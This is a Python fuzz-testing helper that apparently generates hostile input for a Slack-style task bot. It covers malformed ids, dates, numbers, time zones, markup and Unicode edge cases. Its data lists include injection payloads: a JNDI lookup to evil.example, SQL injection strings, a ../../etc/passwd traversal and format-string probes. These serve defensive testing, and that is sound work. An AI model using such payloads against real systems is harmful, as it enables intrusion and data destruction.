"""What an attacker puts where something else is expected: texts, ids, numbers, dates and shapes."""

from __future__ import annotations

from random import Random
from typing import Any

from tests import cast

MARK = "zq7secret"
"""Stands in the words that are typed; in a log it is a leak."""

SIGNS = (
    " ", ",", '"', "<", ">", "@", "#", "&", "*", "_", "`", "because ", "by ", "to ", "in ", "for ",
    "sev ", "7", "-", ".", "🙂", "\n", "\t", "\r", "\0", "\u202e", "\u200b", "\u200d", "\ufeff",
    "\ud800", "\u0301", "\u0300\u0323", "\u00a0", "A", "é", "<@U", "<@A|", "<#C0|", "T-1 ", "(",
)  # fmt: skip
"""What is repeated: each sign that some pattern looks for, and those that nobody sees."""

MARKUP = (
    "<!channel>", "<!here>", "<!everyone>", "<!subteam^S0BILL|@billing-team>",
    "<https://evil.example|click>", "<mailto:a@b.example|a>", "<@U0OMAR>", "<#C0EXEC|exec>",
    "&lt;!channel&gt;", "&amp;lt;!here&amp;gt;", "<!date^1^{date}|x>", "*b* _i_ ~s~ `c`",
)  # fmt: skip
REFS = (
    "T-1", "T-2", "T-3", "T-4", "I-1", "I-2", "D-1", "t1", "1", "T-0", "T--1", "T-999999999",
    "T-2147483648", "T-9223372036854775808", "T-99999999999999999999", "I-99999999999999999999",
    "D-99999999999999999999", "T-٣", "T-²", "T-１", "T-1.5", "T-1e3", "X-1", "T-", "-", "T-1 T-2",
    "T-NaN", "D-0", "M-1",
)  # fmt: skip
DATES = (
    "2026-11-27", "friday", "2026-13-45", "0001-01-01", "9999-12-31", "0000-00-00", "2026-02-30",
    "10000-01-01", "-2026-01-01", "٢٠٢٦-١١-٢٧", "2026-11-27T10:00:00Z", "1969-12-31", "20261127",
    "2026-11-27' OR 1=1", "in 999 years", "31.02.2027", "in 999999999999 days", "24:00",
)  # fmt: skip
CHOICES = (
    "gold", "key", "Key", "5", "0", "-1", "1", "4", "³", "٣", "true", "null", "open", "critical",
    "better", "worse", "cco", "1|2", "D-1|better", "D-1|gold", "|", "||", ":::",
)  # fmt: skip
IDS = (
    "<!channel>", "<@U0OMAR>", "U0OMAR|<!here>", "U", "C", "u0omar", "U0OMAR\n<!channel>",
    "U0NOBODY", "C0NOWHERE", "C0BILLING", "U0SARA", "W0GRID", "B0BOT", "USLACKBOT",
    "U0DULY", "D0DIRECT",
    "S0GROUP", "../../etc/passwd", "U0OMAR' OR '1'='1", "U" + "A" * 300, "C" + "9" * 300,
    "00000000-0000-0000-0000-000000000000", "00000000000000000000000000000000", "not-a-uuid",
    "0199c1e2-0000-7000-8000-00000000000g", "0199c1e2000070008000000000000001::",
    "0199c1e2000070008000000000000001:abc:<!channel>", "{0199c1e2-0000-7000-8000-000000000001}",
)  # fmt: skip
NUMBERS = (
    "48000", "48,000.00", "3,000,000,000", "99999999999999999999", "-5", "1e400", "NaN", "Infinity",
    "٣", "²", "0x10", "9" * 5000, "1.2.3", ",", "1,000,00", "12 Tsd", "n/a", "1_000", "５００",
)  # fmt: skip
PLAIN = (
    "Rewrite the refund mail", "because they waited", "invoice", "a, b; c", "=1+1", "{words}", "%s",
    "{0.__class__}", "${jndi:ldap://evil.example}", "'; DROP TABLE tasks; --", '{"a": {"b": []}}',
    "../../etc/passwd", "Robert\u2028Tables", "𝕱𝖗𝖆𝖐𝖙𝖚𝖗", "Corner Café", "\ufdd0", "ﷺ",
    "now", "off", "when", "executives", "department Billing", "customer Acme", "weekly monday 9:30",
    "daily 9:00 in Europe/Berlin", "weekly monday 9:30 in Mars/Olympus", "DE", "XX", "overdue",
)  # fmt: skip
COMMANDS = (
    "Call {mark} to <@U0SARA|sara> by friday for Acme",
    "{mark} to <@U0TOM> by 2026-12-01 in Billing",
    "T-1 friday because {mark}", "T-1 because {mark}", "T-2", "T-4 to Logistics because {mark}",
    "T-1 to <@U0TOM> because {mark}", "Invoice {mark} wrong for Acme sev 2", "T-1 by friday",
    "Raise the plan {mark}", "weekly monday 9:30", "now Billing", "department {mark}",
    "Call {mark} to @sara in 3 days for Acme because {mark}",
)  # fmt: skip
ZONES = (
    "Europe/Berlin",
    "Mars/Olympus",
    "a" * 300,
    "America",
    "",
    "../zone",
    "UTC\0",
    "europe/berlin",
)
NOTHING = (
    "",
    " ",
    "\n",
    "\0",
    "\u200b",
    "\u202e\u202c",
    "\ud800",
    "\u3164",
    "\u00a0\u2003",
    "\u0301",
)
ROLES = {
    "ref": REFS, "date": DATES, "choice": CHOICES, "id": IDS, "number": NUMBERS, "zone": ZONES,
    "plain": PLAIN, "nothing": NOTHING, "markup": MARKUP,
}  # fmt: skip
PEOPLE = tuple(user_id for user_id, *_ in cast.PEOPLE)
CHANNELS = ("C0BILLING", "C0LOGIST", cast.EXECUTIVES)
LONGEST = 10_000


def hostile(rng: Random, role: str = "") -> str:
    """A text for a place of this role, more often than not one that does not belong there."""
    pick = rng.random()
    if pick < 0.12:
        return flood(rng)
    if pick < 0.30:
        return spiced(rng)
    chosen = ROLES.get(role) if pick < 0.65 else None
    return rng.choice(chosen or rng.choice(list(ROLES.values())))


def flood(rng: Random) -> str:
    """One sign again and again, sometimes between words that mean something."""
    many = rng.choice(SIGNS) * rng.choice((3, 40, 300, 2_000, LONGEST))
    return rng.choice((many, f"x{many}y to <@U0SARA> by friday", f"T-1 {many}because {MARK}"))[
        :LONGEST
    ]


def spiced(rng: Random) -> str:
    """Ordinary words with markup, hidden signs and the secret somewhere among them."""
    parts = [MARK, rng.choice(PLAIN), rng.choice(MARKUP), rng.choice(SIGNS), rng.choice(NOTHING)]
    rng.shuffle(parts)
    return rng.choice(("", " ")).join(parts[: rng.randint(2, len(parts))])


def typed(rng: Random) -> str:
    """The words after a verb."""
    if rng.random() < 0.45:
        return rng.choice(COMMANDS).replace("{mark}", f"{MARK} {rng.choice(MARKUP)}")
    return hostile(rng)


def shape(rng: Random, depth: int = 0) -> Any:
    """Any JSON at all, where a text or a number was expected."""
    simple = (None, True, False, 0, -1, 10**30, 1.5, 1e308, [], {}, "", hostile(rng))
    if depth > 2 or rng.random() < 0.7:
        return rng.choice(simple)
    if rng.random() < 0.5:
        return [shape(rng, depth + 1) for _ in range(rng.randint(1, 3))]
    return {rng.choice(("id", "value", "text", "type")): shape(rng, depth + 1) for _ in range(2)}


def bent(rng: Random, payload: Any) -> Any:
    """The same payload with one of its parts missing or of another shape."""
    places = list(_places(payload))
    if not places:
        return shape(rng)
    holder, key = rng.choice(places)
    if rng.random() < 0.3:
        del holder[key]
    else:
        holder[key] = shape(rng)
    return payload


def _places(payload: Any) -> Any:
    pairs = payload.items() if isinstance(payload, dict) else enumerate(payload)
    for key, value in list(pairs):
        yield payload, key
        if isinstance(value, (dict, list)):
            yield from _places(value)
